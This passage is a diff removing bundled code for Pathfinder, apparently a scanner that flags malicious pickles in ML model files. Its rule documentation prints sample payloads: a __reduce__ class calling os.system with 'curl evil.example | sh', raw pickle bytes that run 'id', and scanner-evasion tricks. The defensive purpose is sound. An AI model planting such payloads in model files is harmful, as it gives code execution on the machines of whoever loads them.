-var SCOPE = "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser (zip64, prepended data, missing end record, name mismatches, stored/deflate/bzip2/LZMA members, every member that parses as a pickle), PyTorch zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, object-array pickles), and gzip/bz2/xz/lzma-wrapped pickles. Large inline byte strings and tensor data are skipped by their declared sizes, so multi-GB files are never read whole; decompression is bounded by `maxDecompressedBytes`. 7z, RAR, zstd and LZ4 archives (and zip members compressed with other methods) are reported as uninspectable.";
-function artifactRule(meta) {
-  return {
-    id: meta.id,
-    name: meta.name,
-    language: "artifact",
-    severity: meta.severity,
-    confidence: meta.confidence,
-    precision: meta.precision,
-    cwe: ["CWE-502"],
-    owasp: ["A08:2021"],
-    compliance: COMPLIANCE,
-    tags: ["pickle", "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
-    bundles: ["artifacts"],
-    banditIds: [],
-    similar: meta.similar,
-    docs: {
-      ...meta.docs,
-      safeExample: meta.docs.safeExample ?? SAFE_EXAMPLE,
-      detectionScope: SCOPE,
-      references: REFERENCES,
-      faq: [...meta.docs.faq ?? [], ...COMMON_FAQ]
-    }
-  };
-}
-var PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
-  id: "PICKLE-ARTIFACT-001",
-  name: "Pickle Artifact Calls a Dangerous Global",
-  severity: "critical",
-  confidence: "high",
-  precision: "very-high",
-  tags: ["code-execution"],
-  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
-  docs: {
-    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
-    description: "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example `os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
-    securityImplications: "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
-    howToFix: "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
-    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
-    vulnerableExample: [
-      "class Payload:",
-      "    def __reduce__(self):",
-      '        return (os.system, ("curl evil.example | sh",))',
-      "",
-      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command'
-    ].join("\n"),
-    faq: [
-      {
-        question: "Could the call be harmless?",
-        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec."
-      }
-    ]
-  }
-});
-var PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
-  id: "PICKLE-ARTIFACT-002",
-  name: "Pickle Artifact Imports a Dangerous Global",
-  severity: "high",
-  confidence: "medium",
-  precision: "high",
-  tags: ["code-execution"],
-  similar: ["PICKLE-ARTIFACT-001"],
-  docs: {
-    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
-    description: "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example `os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
-    securityImplications: "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away from being invoked. Treat the file as untrusted.",
-    howToFix: "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
-    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
-    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n")
-  }
-});
-var PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
-  id: "PICKLE-ARTIFACT-003",
-  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
-  severity: "critical",
-  confidence: "medium",
-  precision: "high",
-  tags: ["obfuscation", "code-execution"],
-  similar: ["PICKLE-ARTIFACT-001"],
-  docs: {
-    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
-    description: "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object (overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, which is why attackers use them.",
-    securityImplications: "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so they indicate an attempt to evade scanning and execute code.",
-    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
-    fixHint: "Obfuscated pickle: do not load it.",
-    vulnerableExample: [
-      "# STACK_GLOBAL whose module name is computed by a call",
-      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE"
-    ].join("\n")
-  }
-});
-var PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
-  id: "PICKLE-ARTIFACT-004",
-  name: "Pickle Artifact References a Global Outside the Allowlist",
-  severity: "medium",
-  confidence: "medium",
-  precision: "medium",
-  tags: ["allowlist", "policy"],
-  similar: ["PICKLE-ARTIFACT-002"],
-  docs: {
-    summary: "In allowlist mode, a pickle references a global that is neither built in to the allowlist nor allowed by configuration.",
-    description: "The allowlist policy accepts only globals a tensor/array checkpoint needs (PyTorch's weights-only set, NumPy array reconstruction, plain containers) plus `--pickle-allow` entries. Anything else is reported so that a reviewer decides whether it is expected.",
-    securityImplications: "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven malicious, but it widens what loading the file can do.",
-    howToFix: "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it from the artifact, e.g. save only a `state_dict` of tensors.",
-    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
-    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
-    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n")
-  }
-});
-var PICKLE_ARTIFACT_MALFORMED = artifactRule({
-  id: "PICKLE-ARTIFACT-005",
-  name: "Malformed Pickle After Importing Globals",
-  severity: "high",
-  confidence: "medium",
-  precision: "medium",
-  tags: ["evasion"],
-  similar: ["PICKLE-ARTIFACT-006"],
-  docs: {
-    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
-    description: "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by appending garbage after the payload (the 'broken pickle' trick).",
-    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
-    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
-    fixHint: "Broken pickle with globals: do not load it.",
-    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n")
-  }
-});
-var PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
-  id: "PICKLE-ARTIFACT-006",
-  name: "Artifact Container Is Inconsistent",
-  severity: "high",
-  confidence: "high",
-  precision: "high",
-  tags: ["evasion", "zip"],
-  similar: ["PICKLE-ARTIFACT-005"],
-  docs: {
-    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
-    description: "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
-    securityImplications: "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
-    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
-    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
-    vulnerableExample: [
-      "# central directory: archive/data.pkl   local header: archive/version",
-      "# both point at a pickle that calls os.system"
-    ].join("\n")
-  }
-});
-var PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
-  id: "PICKLE-ARTIFACT-007",
-  name: "Artifact Archive Cannot Be Inspected",
-  severity: "medium",
-  confidence: "low",
-  precision: "low",
-  tags: ["coverage"],
-  similar: [],
-  docs: {
-    summary: "The file is an archive format (7z, RAR, zstd, LZ4, or an unsupported zip method) that Pathfinder cannot look inside.",
-    description: "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, bzip2, xz and lzma itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of reporting the file as clean.",
-    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
-    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
-    fixHint: "Extract the archive and scan its contents.",
-    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
-    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n")
-  }
-});
-var ARTIFACT_RULES = [
-  PICKLE_ARTIFACT_DANGEROUS_CALL,
-  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
-  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
-  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
-  PICKLE_ARTIFACT_MALFORMED,
-  PICKLE_ARTIFACT_CONTAINER_TRICK,
-  PICKLE_ARTIFACT_UNINSPECTABLE
-];
-var RULE_BY_KIND = {
-  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
-  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
-  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
-  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
-  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
-  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
-  malformed: PICKLE_ARTIFACT_MALFORMED,
-  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
-  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE
-};
-function ruleForIssue(issue) {
-  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
-  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
-  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
-  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
-}
-
-// src/artifacts/scan.ts
-var HEAD_BYTES = 64 * 1024 + 1;
-var MAX_ZIP_ENTRIES = 1e5;
-var MAX_TAR_ENTRIES = 1e5;
-var MAX_STACKED_PICKLES = 64;
-var MAX_WORK_ITEMS = 1e4;
-var TORCH_PICKLE = /(^|\/)data\.pkl$/;
-var TORCH_TENSOR = /(^|\/)data\/\d+$/;
-var LEGACY_TAR_MEMBERS = /* @__PURE__ */ new Set(["sys_info", "pickle", "storages", "tensors"]);
-var ZIP_METHODS = /* @__PURE__ */ new Map([
-  [METHOD_STORED, "stored"],
-  [METHOD_DEFLATE, "deflate"],
-  [METHOD_BZIP2, "bz2"],
-  [METHOD_LZMA, "lzma"]
-]);
-async function scanArtifact(source, relPath, options = {}) {
-  const scan = new ArtifactScan(relPath, {
-    ...DEFAULT_PICKLE_OPTIONS,
-    ...options,
-    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options.limits }
-  });
-  await scan.run(source);
-  return scan.result();
-}
-var ArtifactScan = class {
-  constructor(relPath, options) {
-    this.relPath = relPath;
-    this.options = options;
-    this.budget = options.limits.maxDecompressedBytes;
-  }
-  relPath;
-  options;
-  layout = [];
-  analyses = [];
-  errors = [];
-  issues = [];
-  queue = [];
-  traits = /* @__PURE__ */ new Set();
-  baseKind = "unknown";
-  budget;
-  budgetWarned = false;
-  async run(source) {
-    this.queue.push({ source, origin: 0, depth: 0 });
-    let processed = 0;
-    while (this.queue.length > 0) {
-      const item = this.queue.shift();
-      if (++processed > MAX_WORK_ITEMS) {
-        this.warn(`more than ${MAX_WORK_ITEMS} nested pieces; the rest were not inspected`);
-        break;
-      }
-      try {
-        await this.inspect(item);
-      } catch (error) {
-        this.warn(`could not inspect: ${error instanceof Error ? error.message : String(error)}`, item.member);
-      }
-    }
-  }
-  result() {
-    return {
-      kind: this.kind(),
-      layout: this.layout,
-      analyses: this.analyses,
-      findings: this.findings(),
-      errors: this.errors
-    };
-  }
-  kind() {
-    if (this.traits.has("torch-legacy")) return "torch-legacy";
-    if (this.traits.has("joblib")) return "joblib";
-    if (this.baseKind === "zip" && this.traits.has("torch-zip")) return "torch-zip";
-    if (this.baseKind === "zip" && this.traits.has("npz")) return "npz";
-    if (this.baseKind === "pickle" && this.traits.has("zip")) return "pickle+zip";
-    return this.baseKind;
-  }
-  warn(message15, member) {
-    this.errors.push({
-      file: this.relPath,
-      kind: "artifact",
-      message: member ? `${member}: ${message15}` : message15,
-      level: "warning"
-    });
-  }
-  addIssue(issue, member, baseOffset, from) {
-    this.issues.push({ issue, ...member !== void 0 ? { member } : {}, baseOffset, ...from ? { from } : {} });
-  }
-  async inspect(item) {
-    if (item.depth > this.options.limits.maxNesting) {
-      this.warn(`containers nested deeper than ${this.options.limits.maxNesting}; not inspected`, item.member);
-      return;
-    }
-    const head = await readRange(item.source, 0, HEAD_BYTES);
-    if (head.length === 0) {
-      if (item.depth === 0) this.warn("file is empty");
-      return;
-    }
-    const format = sniffFormat(head);
-    const pickleLike = format === "unknown" && (item.expectPickle === true || looksLikePickle(head));
-    if (item.depth === 0) this.baseKind = pickleLike ? "pickle" : format;
-    switch (format) {
-      case "npy":
-        return this.inspectNpy(item);
-      case "zip":
-        await this.inspectZip(item, 0);
-        return;
-      case "tar":
-        return this.inspectTar(item);
-      case "gzip":
-      case "zlib":
-      case "bz2":
-      case "xz":
-      case "lzma":
-        return this.inspectCompressed(item, format, item.source);
-      case "joblib-zfile":
-        this.traits.add("joblib");
-        return this.inspectCompressed(item, "zlib", sliceSource(item.source, 21, item.source.size - 21));
-      case "7z":
-      case "rar":
-      case "zstd":
-      case "lz4":
-        return this.uninspectable(item, format);
-      case "unknown":
-        if (pickleLike) return this.inspectPickles(item);
-        if (await this.inspectZip(item, -1)) return;
-        if (item.depth === 0) this.warn("content is not a pickle or a known container; not inspected");
-    }
-  }
-  uninspectable(item, format) {
-    this.layout.push({
-      name: item.member ?? `[${format}]`,
-      container: format,
-      offset: item.origin,
-      size: item.source.size,
-      compressedSize: item.source.size,
-      method: format,
-      role: "other"
-    });
-    this.addIssue(
-      {
-        kind: "uninspectable",
-        severity: "medium",
-        message: `${format} archive: Pathfinder cannot inspect its contents, which may include pickles`
-      },
-      item.member,
-      item.origin
-    );
-  }
-  // ---- compression -------------------------------------------------------------------------------
-  async decompressBounded(format, input, member, want) {
-    const result2 = await decompress(format, input, {
-      limit: Math.max(0, this.budget),
-      ...want !== void 0 ? { want } : {}
-    });
-    if (want === void 0 || result2.limitReached) this.budget -= result2.bytes.length;
-    if (result2.limitReached && !this.budgetWarned) {
-      this.budgetWarned = true;
-      this.warn(
-        `decompression stopped at the ${this.options.limits.maxDecompressedBytes}-byte limit (possible zip bomb); the rest was not inspected`,
-        member
-      );
-    }
-    if (result2.error) this.warn(`${format} data is corrupt or truncated: ${result2.error}`, member);
-    return result2;
-  }
-  async inspectCompressed(item, format, input) {
-    const label = `${item.member ?? ""}[${format}]`;
-    if (this.budget <= 0) {
-      this.warn("decompression limit already reached; not inspected", label);
-      return;
-    }
-    const head = await this.decompressBounded(format, input, label, HEAD_BYTES);
-    const pickle = item.expectPickle === true || looksLikePickle(head.bytes);
-    const row = {
-      name: label,
-      container: format,
-      offset: item.origin,
-      size: head.bytes.length,
-      compressedSize: input.size,
-      method: format,
-      role: pickle ? "pickle" : "other"
-    };
-    this.layout.push(row);
-    if (!pickle && sniffFormat(head.bytes) === "unknown") return;
-    const complete = head.bytes.length < HEAD_BYTES || head.error !== void 0 || head.limitReached;
-    const result2 = complete ? head : await this.decompressBounded(format, input, label);
-    row.size = result2.bytes.length;
-    if (result2.bytes.length === 0) return;
-    this.queue.push({ source: memorySource(result2.bytes), member: label, origin: 0, depth: item.depth + 1 });
-  }
-  // ---- .npy --------------------------------------------------------------------------------------
-  async inspectNpy(item) {
-    const parsed = await readNpyHeader(item.source);
-    if (!parsed.ok) {
-      this.warn(parsed.error, item.member);
-      return;
-    }
-    const { header } = parsed;
-    const bodySize = item.source.size - header.dataOffset;
-    this.layout.push({
-      name: `${item.member ?? ""}[npy ${header.descr} ${JSON.stringify(header.shape)}]`,
-      container: "npy",
-      offset: item.origin + header.dataOffset,
-      size: bodySize,
-      compressedSize: bodySize,
-      method: "raw",
-      role: header.hasObject ? "pickle" : "tensor-data"
-    });
-    if (!header.hasObject) return;
-    this.queue.push({
-      source: sliceSource(item.source, header.dataOffset, bodySize),
-      ...item.member !== void 0 ? { member: item.member } : {},
-      origin: item.origin + header.dataOffset,
-      depth: item.depth + 1,
-      expectPickle: true
-    });
-  }
-  // ---- zip ---------------------------------------------------------------------------------------
-  /** `start` >= 0: the caller saw a local header there; -1: only look for an end record. */
-  async inspectZip(item, start2) {
-    let directory = await readZipDirectory(item.source, { maxEntries: MAX_ZIP_ENTRIES });
-    if (!directory && start2 >= 0) directory = await walkLocalHeaders(item.source, start2, { maxEntries: MAX_ZIP_ENTRIES });
-    if (!directory || directory.entries.length === 0 && !directory.fromCentralDirectory) return false;
-    if (item.depth === 0 && this.baseKind === "unknown") this.baseKind = "zip";
-    this.traits.add("zip");
-    if (directory.archiveStart > 0 && this.baseKind !== "pickle") {
-      this.warn(`zip archive starts at offset ${directory.archiveStart}: data was prepended to it`, item.member);
-    }
-    for (const warning of directory.warnings) this.warn(warning, item.member);
-    for (const trick of directory.tricks) {
-      this.addIssue(
-        { kind: "container-mismatch", severity: "high", message: trick.message },
-        join2(item.member, trick.member),
-        0
-      );
-    }
-    const isTorch = directory.entries.some((e) => TORCH_PICKLE.test(e.name));
-    if (isTorch) this.traits.add("torch-zip");
-    if (directory.entries.length > 0 && directory.entries.every((e) => e.name.endsWith(".npy"))) this.traits.add("npz");
-    for (const entry of directory.entries) {
-      const member = join2(item.member, entry.name);
-      const method = ZIP_METHODS.get(entry.method) ?? `method ${entry.method}`;
-      const row = {
-        name: member,
-        container: "zip",
-        offset: entry.dataOffset,
-        size: entry.uncompressedSize,
-        compressedSize: entry.compressedSize,
-        method,
-        role: "other"
-      };
-      this.layout.push(row);
-      if (entry.dataOffset < 0) continue;
-      if (isTorch && TORCH_TENSOR.test(entry.name)) {
-        row.role = "tensor-data";
-        continue;
-      }
-      let compressed = sliceSource(item.source, entry.dataOffset, entry.compressedSize);
-      let head;
-      let codec = null;
-      if (entry.method === METHOD_LZMA) {
-        const alone = entry.compressedSize <= this.budget ? zipLzmaAsAlone(await readRange(compressed, 0, entry.compressedSize), entry.uncompressedSize) : null;
-        if (!alone) {
-          this.warn("LZMA member is malformed or larger than the decompression limit; not inspected", member);
-          continue;
-        }
-        compressed = memorySource(alone);
-      }
-      if (entry.method === METHOD_STORED) {
-        head = await readRange(compressed, 0, HEAD_BYTES);
-      } else if (entry.method === METHOD_DEFLATE || entry.method === METHOD_BZIP2 || entry.method === METHOD_LZMA) {
-        codec = entry.method === METHOD_DEFLATE ? "deflate-raw" : entry.method === METHOD_BZIP2 ? "bz2" : "lzma";
-        head = (await this.decompressBounded(codec, compressed, member, HEAD_BYTES)).bytes;
-      } else {
-        this.addIssue(
-          {
-            kind: "uninspectable",
-            severity: "medium",
-            message: `zip member ${entry.name} uses compression method ${entry.method}, which Pathfinder cannot decode`
-          },
-          member,
-          0
-        );
-        continue;
-      }
-      const expectPickle = TORCH_PICKLE.test(entry.name) || /\.(pkl|pickle)$/i.test(entry.name);
-      const pickleLike = looksLikePickle(head);
-      const nested = sniffFormat(head) !== "unknown";
-      if (pickleLike || expectPickle) row.role = "pickle";
-      if (!pickleLike && !expectPickle && !nested) continue;
-      let memberSource = compressed;
-      if (codec) {
-        if (this.budget <= 0) {
-          this.warn("decompression limit reached; member not inspected", member);
-          continue;
-        }
-        const full = await this.decompressBounded(codec, compressed, member);
-        row.size = full.bytes.length;
-        memberSource = memorySource(full.bytes);
-      }
-      this.queue.push({ source: memberSource, member, origin: 0, depth: item.depth + 1, expectPickle });
-    }
-    return true;
-  }
-  // ---- tar (legacy PyTorch) ----------------------------------------------------------------------
-  async inspectTar(item) {
-    const listing = await listTar(item.source, MAX_TAR_ENTRIES);
-    for (const warning of listing.warnings) this.warn(warning, item.member);
-    const files = listing.entries.filter((e) => e.type === "0" || e.type === "7");
-    const legacy = files.some((e) => e.name === "pickle") && files.some((e) => e.name === "sys_info");
-    if (legacy) this.traits.add("torch-legacy");
-    for (const entry of files) {
-      const member = join2(item.member, entry.name);
-      const source = sliceSource(item.source, entry.dataOffset, entry.size);
-      const row = {
-        name: member,
-        container: "tar",
-        offset: entry.dataOffset,
-        size: entry.size,
-        compressedSize: entry.size,
-        method: "stored",
-        role: "other"
-      };
-      this.layout.push(row);
-      if (legacy && (entry.name === "storages" || entry.name === "tensors")) {
-        row.role = "pickle";
-        const located = entry.name === "storages" ? await locateLegacyStorages(source, this.options.limits.maxOpcodes) : await locateLegacyTensors(source, this.options.limits.maxOpcodes);
-        await this.analyseRanges(source, member, located);
-        continue;
-      }
-      const head = await readRange(source, 0, HEAD_BYTES);
-      const expectPickle = legacy && LEGACY_TAR_MEMBERS.has(entry.name);
-      const pickleLike = looksLikePickle(head);
-      if (pickleLike || expectPickle) row.role = "pickle";
-      if (pickleLike || expectPickle || sniffFormat(head) !== "unknown") {
-        this.queue.push({ source, member, origin: 0, depth: item.depth + 1, expectPickle });
-      }
-    }
-  }
-  async analyseRanges(source, member, located) {
-    for (const warning of located.warnings) this.warn(warning, member);
-    for (const range of located.pickles) {
-      const bytes = await this.readPickleBytes(source, range.start, range.end - range.start, member);
-      this.record(analyzePickle(bytes, this.options), member, range.start);
-    }
-  }
-  // ---- pickles -----------------------------------------------------------------------------------
-  /** Analyses the pickle at the start of the item and every pickle stacked after it, then what follows. */
-  async inspectPickles(item) {
-    const source = item.source;
-    let position = 0;
-    let legacy = false;
-    for (let count = 0; count < MAX_STACKED_PICKLES && position < source.size; count++) {
-      if (count > 0 && !looksLikePickle(await readRange(source, position, HEAD_BYTES))) break;
-      const end = await this.analysePickleAt(item, position);
-      if (count === 0 && isLegacyTorchMagic(await readRange(source, 0, 32))) {
-        legacy = true;
-        this.traits.add("torch-legacy");
-      }
-      if (end === null || end <= position) return;
-      position = end;
-      if (legacy && count + 1 === LEGACY_STACKED_PICKLES) {
-        this.layout.push({
-          name: `${item.member ?? ""}[storage data]`,
-          container: "torch-legacy",
-          offset: item.origin + position,
-          size: source.size - position,
-          compressedSize: source.size - position,
-          method: "raw",
-          role: "tensor-data"
-        });
-        return;
-      }
-    }
-    if (position >= source.size) return;
-    await this.inspectTail(item, position);
-  }
-  /** Bytes after the last pickle: a zip (polyglot) or another container; otherwise just reported. */
-  async inspectTail(item, position) {
-    const head = await readRange(item.source, position, HEAD_BYTES);
-    if (await this.inspectZip(item, startsWith(head, ascii("PK")) ? position : -1)) return;
-    if (sniffFormat(head) !== "unknown") {
-      this.queue.push({
-        source: sliceSource(item.source, position, item.source.size - position),
-        ...item.member !== void 0 ? { member: item.member } : {},
-        origin: item.origin + position,
-        depth: item.depth + 1
-      });
-      return;
-    }
-    this.warn(`${item.source.size - position} bytes after the pickle at offset ${item.origin + position} were not inspected`, item.member);
-  }
-  /** Analyses one pickle stream at `position`; returns the offset just past it, or null if it did not end. */
-  async analysePickleAt(item, position) {
-    const end = await this.analyseStreamAt(item, position);
-    if (item.depth === 0 || position > 0) {
-      const size = (end ?? item.source.size) - position;
-      this.layout.push({
-        name: `${item.member ?? ""}[pickle @${item.origin + position}]`,
-        container: "pickle",
-        offset: item.origin + position,
-        size,
-        compressedSize: size,
-        method: "raw",
-        role: "pickle"
-      });
-    }
-    return end;
-  }
-  async analyseStreamAt(item, position) {
-    const { source, member } = item;
-    const framing = await locateJoblibArrays(source, position, this.options.limits.maxOpcodes);
-    if (framing.end !== null && (framing.arrays.length > 0 || framing.largeStrings.length > 0)) {
-      if (framing.arrays.length > 0) this.traits.add("joblib");
-      await this.analyseWithout(item, position, framing.end, framing.arrays, framing.largeStrings);
-      return framing.end;
-    }
-    if (framing.arrays.length > 0 && framing.error) {
-      this.warn(`joblib array data could not be located (${framing.error.message}); analysing the stream as is`, member);
-    }
-    const length = framing.end !== null ? framing.end - position : source.size - position;
-    const bytes = await this.readPickleBytes(source, position, length, member);
-    const analysis = analyzePickle(bytes, this.options);
-    this.record(analysis, member, item.origin + position);
-    if (framing.end !== null) return framing.end;
-    return analysis.bytesConsumed > 0 ? position + analysis.bytesConsumed : null;
-  }
-  /**
-   * Analyses the pickle [start, end) with raw data cut out, so that a multi-GB file is never read whole:
-   * joblib arrays (bytes between opcodes) are removed, large string arguments keep their opcode with the
-   * length rewritten to 0. Offsets in the analysis are mapped back to the original bytes. joblib object
-   * arrays are analysed as the separate pickles they are.
-   */
-  async analyseWithout(item, start2, end, arrays, strings) {
-    const { source, member } = item;
-    const cuts = [
-      ...arrays.map((a) => ({ offset: a.offset, length: a.length })),
-      ...strings.map((s) => ({ offset: s.payload, length: s.length, zero: { at: s.lengthField, size: s.lengthSize } }))
-    ].sort((a, b) => a.offset - b.offset);
-    for (const array of arrays) {
-      this.layout.push({
-        name: `${member ?? ""}[array ${array.dtype} ${JSON.stringify(array.shape)}]`,
-        container: "joblib",
-        offset: item.origin + array.offset,
-        size: array.length,
-        compressedSize: array.length,
-        method: "raw",
-        role: array.objectPickle ? "pickle" : "tensor-data"
-      });
-    }
-    for (const string of strings) {
-      this.layout.push({
-        name: `${member ?? ""}[inline data @${item.origin + string.payload}]`,
-        container: "pickle",
-        offset: item.origin + string.payload,
-        size: string.length,
-        compressedSize: string.length,
-        method: "raw",
-        role: "tensor-data"
-      });
-    }
-    const kept = [];
-    const chunks = [];
-    let cursor = start2;
-    let spliced = 0;
-    const keep = async (to, zero) => {
-      let bytes = await this.readPickleBytes(source, cursor, to - cursor, member);
-      if (zero) {
-        bytes = bytes.slice();
-        bytes.fill(0, zero.at - cursor, zero.at - cursor + zero.size);
-      }
-      kept.push({ from: cursor, to, at: spliced });
-      chunks.push(bytes);
-      spliced += bytes.length;
-    };
-    for (const cut of cuts) {
-      if (cut.offset < cursor) continue;
-      await keep(cut.offset, cut.zero);
-      cursor = cut.offset + cut.length;
-    }
-    await keep(end);
-    const analysis = withoutArrayWrapperIssues(analyzePickle(concatBytes(chunks), this.options), arrays.length > 0);
-    const toOriginal = (offset) => {
-      let piece = kept[0];
-      for (const candidate of kept) if (candidate.at <= offset) piece = candidate;
-      return piece.from + (offset - piece.at) - start2;
-    };
-    this.record(remapOffsets(analysis, toOriginal), member, item.origin + start2);
-    for (const array of arrays) {
-      if (!array.objectPickle) continue;
-      const bytes = await this.readPickleBytes(source, array.offset, array.length, member);
-      this.record(analyzePickle(bytes, this.options), member, item.origin + array.offset);
-    }
-  }
-  async readPickleBytes(source, offset, length, member) {
-    const cap = this.options.limits.maxDecompressedBytes;
-    if (length > cap) {
-      this.warn(`pickle of ${length} bytes exceeds the ${cap}-byte limit; only its start was analysed`, member);
-      return readRange(source, offset, cap);
-    }
-    return readRange(source, offset, length);
-  }
-  record(analysis, member, baseOffset) {
-    this.analyses.push({ ...member !== void 0 ? { member } : {}, baseOffset, analysis });
-    if (analysis.error && analysis.isPickle) {
-      this.warn(`pickle analysis stopped at offset ${baseOffset + analysis.error.offset}: ${analysis.error.message}`, member);
-    }
-    const pending = [{ analysis, base: baseOffset }];
-    while (pending.length > 0) {
-      const { analysis: current, base, nestedIn } = pending.pop();
-      const hasNested = current.nested.length > 0;
-      for (const issue of current.issues) {
-        if (issue.kind === "nested-pickle" && hasNested) continue;
-        const located = nestedIn === void 0 ? { ...issue, ...issue.offset !== void 0 ? { offset: base + issue.offset } : {} } : { ...issue, offset: nestedIn, message: `${issue.message} (in a pickle nested at offset ${nestedIn})` };
-        this.addIssue(located, member, 0, nestedIn === void 0 ? { analysis: current, base } : void 0);
-      }
-      for (const inner of current.nested) {
-        pending.push({ analysis: inner.analysis, base: 0, nestedIn: nestedIn ?? base + inner.offset });
-      }
-    }
-  }
-  // ---- findings ----------------------------------------------------------------------------------
-  findings() {
-    const findings = [];
-    const seen = /* @__PURE__ */ new Set();
-    for (const { issue, member, baseOffset, from } of this.issues) {
-      const rule = ruleForIssue(issue);
-      const fingerprint = stableHash([rule.id, this.relPath, member ?? "", issue.global ?? issue.message].join("\0"));
-      if (seen.has(fingerprint)) continue;
-      seen.add(fingerprint);
-      const offset = issue.offset ?? baseOffset;
-      findings.push({
-        ruleId: rule.id,
-        ruleName: rule.name,
-        message: member ? `${issue.message} (in ${member})` : issue.message,
-        severity: issue.severity,
-        confidence: rule.confidence,
-        location: {
-          file: this.relPath,
-          line: 1,
-          column: 1,
-          endLine: 1,
-          endColumn: 1,
-          snippet: opcodeListing(issue, offset, from),
-          ...member !== void 0 ? { member } : {},
-          offset
-        },
-        cwe: rule.cwe,
-        owasp: rule.owasp,
-        fingerprint
-      });
-    }
-    return findings;
-  }
-};
-var MAX_LISTING_LINES = 8;
-function opcodeListing(issue, offset, from) {
-  const lines = [];
-  if (from && issue.global) {
-    const { analysis, base } = from;
-    const rows = [
